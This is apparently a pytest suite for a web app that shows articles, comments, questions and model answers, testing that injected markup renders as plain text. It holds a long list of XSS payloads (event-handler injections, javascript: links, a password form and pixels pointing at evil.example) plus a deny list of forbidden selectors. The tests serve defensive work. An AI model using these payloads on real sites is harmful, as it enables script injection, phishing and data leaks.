"""Text of others stays text: as article, comment, author, title, question and model reply."""

import json
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest

from assistant.answer import Answer, Citation, Sentence
from assistant.locale.page import words_of
from page.conversations import Talk
from page.rendering import render
from page.views.answer import answer_card
from tests.support.browser import running_page

# Invented here: what runs, what fetches, what restyles, what looks like our own page.
_OURS = (
    "<img src=/nowhere.png onerror=\"window.ran='img'\">",
    "<svg onload=\"window.ran='svg'\"></svg>",
    "<style>body{display:none}</style>",
    '<div style="position:fixed;inset:0;background:red">Log in again</div>',
    '<form action="http://evil.example/"><input name=password></form>',
    "<iframe srcdoc=\"<script>parent.ran='frame'</script>\"></iframe>",
    '<a href="javascript:window.ran=1">read on</a>',
    "![pixel](http://evil.example/pixel.png)",
    "[click](javascript:window.ran=2)",
    '</script><script>window.ran="script"</script>',
    '" autofocus onfocus="window.ran=3',
    "{{ 7 * 7 }} {% raw %} ${window.ran=4} `${window.ran=5}`",
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<details open ontoggle="window.ran=6"><summary>more</summary></details>',
    '<video src="http://evil.example/v.mp4" autoplay></video>',
    '<img srcset="http://evil.example/1.png 1x, http://evil.example/2.png 2x">',
    '<video poster="http://evil.example/poster.png"></video>',
    '<link rel="prefetch" href="http://evil.example/next">',
    '<link rel="dns-prefetch" href="//evil.example">',
    '<style>@import url("http://evil.example/s.css");</style>',
    '<p style="background:url(http://evil.example/b.png)">wet paint</p>',
    '<base href="http://evil.example/">',
    '<object data="http://evil.example/o.swf"></object><embed src="http://evil.example/e">',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.ran=10">',
    '<noscript><p title="</noscript><img src=x onerror=window.ran=11>">',
    '<script type="importmap">{"imports": {"x": "http://evil.example/x.js"}}</script>',
    "<!--[if gte IE 4]><script>window.ran=12</script><![endif]-->",
    '<template shadowrootmode="open"><img src=x onerror="window.ran=13"></template>',
    "[ref][r] [r]: javascript:window.ran=14",
    '<a href="data:text/html,<script>window.ran=15</script>">read on</a>',
    "＜img src=x onerror=window.ran=16＞ &lt;img src=x onerror=window.ran=19&gt;",
    '<button popovertarget="x" onclick="window.ran=17">Close</button><div popover id="x">Log in',
    '<input onbeforeinput="window.ran=18" accesskey="x" autofocus>',
)
# Gradio has scripts, styles and templates of its own around our parts; none may be inside.
_OWN_FORMS = "#ask, #bring-form, #compare"
_FORBIDDEN = (
    ".part script",
    ".part > .html-container style, .html-container .part > style:not(:empty)",
    "iframe",
    ".part img",
    "video",
    "meta[http-equiv]",
    f"form:not({_OWN_FORMS})",
    "a[href^='javascript']:not(#bookmarklet), a[href^='data']",
    "[onerror], [onload], [onfocus], [ontoggle], [onclick]",
    ".part [style*='fixed'], .part [style*='url']",
    ".part :is(base, object, embed, math, noscript, template)",
    "link[rel='prefetch'], link[rel='dns-prefetch'], link[href*='evil']",
    "video[poster], [srcset], [popover]",
    "script[type='importmap'], script[src*='evil']",
)


@pytest.fixture(scope="module")
def payloads(shared_data: Path) -> tuple[str, ...]:
    """Every payload of the collection and our own."""
    folder = shared_data / "data" / "hostile_html"
    collected = [
        payload
        for file in sorted(folder.glob("*.json"))
        for payload in json.loads(file.read_text("utf-8"))["payloads"]
    ]
    assert len(collected) > 20
    return (*collected, *_OURS)


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A page of its own: nobody else wants these articles in the library."""
    with running_page(home=tmp_path_factory.mktemp("page")) as (address, _):
        yield address


def _in_one_line(text: str) -> str:
    return " ".join(text.split())


def _joined(payloads: Sequence[str], count: int) -> list[str]:
    """Return the payloads, some at a time, in texts that must be shown to the last character."""
    return [" ".join(payloads[at : at + count]) for at in range(0, len(payloads), count)]


def _assert_unharmed(visit: Any) -> None:
    assert visit.page.evaluate("window.ran") is None
    for selector in _FORBIDDEN:
        assert visit.page.locator(selector).count() == 0, selector
    assert visit.page.locator(".masthead").is_visible()
    visit.assert_clean()


def _bring(visit: Any, content: dict[str, Any]) -> Any:
    page = visit.page
    page.click("#open-bring")
    file = {
        "name": "hostile.json",
        "mimeType": "application/json",
        "buffer": json.dumps(content).encode(),
    }
    before = page.url
    page.set_input_files("#bring-file", file)
    page.wait_for_function(
        "before => location.href !== before && document.body?.dataset.whole", arg=before
    )
    return page


def test_payloads_in_the_article_and_its_comments_are_shown_as_text(
    watched: Any, address: str, payloads: tuple[str, ...]
) -> None:
    visit = watched(locale="en")
    visit.open(address)
    page = _bring(
        visit,
        {
            "title": payloads[0],
            "author": payloads[1],
            "outlet": payloads[2],
            "url": "javascript:window.ran=7",
            "paragraphs": [f"Ida Krenn said: “Beware of {payload} here.”" for payload in payloads],
            "comments": [
                {
                    "id": str(number),
                    "author": payload,
                    "score": 1,
                    "text": f"That is false: {payload}",
                }
                for number, payload in enumerate(payloads, start=1)
            ],
        },
    )
    _assert_unharmed(visit)
    shown = page.locator("#panel-article").inner_text()
    for own in _OURS:
        assert _in_one_line(own) in _in_one_line(shown)
    for tab in ("speakers", "disputes", "thread"):
        page.click(f"#tab-{tab}")
        page.wait_for_selector(f"#panel-{tab} .sheet")
        for summary in page.locator(f"#panel-{tab} summary").all()[:12]:
            summary.click()
        _assert_unharmed(visit)
    for question in (
        "What does Ida Krenn say?",
        "What do readers say?",
        "Which claims are disputed?",
    ):
        turn = visit.ask(question)
        for chip in turn.locator(".chip").all()[:4]:
            chip.hover()
        _assert_unharmed(visit)
    page.click("#open-library")
    _assert_unharmed(visit)


def test_payloads_as_titles_are_shown_as_text(watched: Any, address: str) -> None:
    visit = watched(locale="en")
    visit.open(address)
    for number, title in enumerate(_joined(_OURS, 8)):
        text = f"The pier number {number} is closed until the council has voted. " * 12
        page = _bring(visit, {"title": title, "text": text})
        assert _in_one_line(page.locator(".headline").inner_text()) == _in_one_line(title)
        _assert_unharmed(visit)


def test_payloads_as_questions_are_shown_as_text(
    watched: Any, address: str, payloads: tuple[str, ...]
) -> None:
    visit = watched(locale="en")
    visit.open(address)
    for question in _joined(payloads, 6):
        turn = visit.ask(question)
        assert _in_one_line(question) in _in_one_line(turn.locator(".asked").inner_text())
    _assert_unharmed(visit)
    visit.page.goto(f"{address}?q={_OURS[0]}&article=%3Cscript%3Ewindow.ran=8%3C/script%3E")
    assert visit.page.evaluate("window.ran") is None
    assert visit.page.locator("script").count() == 0


def test_payloads_in_a_models_reply_are_shown_as_text(
    watched: Any, address: str, payloads: tuple[str, ...]
) -> None:
    visit = watched(locale="en")
    page = visit.open(address)
    for payload in payloads:
        citation = Citation(
            article="a" * 12,
            label="C1",
            source="comment",
            quote=payload,
            start=0,
            end=len(payload),
            passage_text=payload,
            author=payload,
        )
        sentence = Sentence(text=f"{payload} [C1]", lane="readers", citations=("C1",))
        answer = Answer(
            question=payload,
            language='en" onload="window.ran=9',
            status="answered",
            sentences=(sentence,),
            citations=(citation,),
            warnings=(payload,),
            dropped=(Sentence(text=payload, lane="article", verdict="unsupported"),),
            engine=payload,
        )
        words = words_of("en")
        turn, card = Talk().keep(answer, article="a" * 12), answer_card(answer, words)
        html = render("answer.html", turn=turn, card=card, words=words, following=(), bench=None)
        page.evaluate(
            "html => document.getElementById('answers').insertAdjacentHTML('beforeend', html)", html
        )
        shown = page.locator(".turn .answer").last.inner_text()
        assert _in_one_line(payload) in _in_one_line(shown)
        page.locator(".turn .chip").last.hover()
    _assert_unharmed(visit)
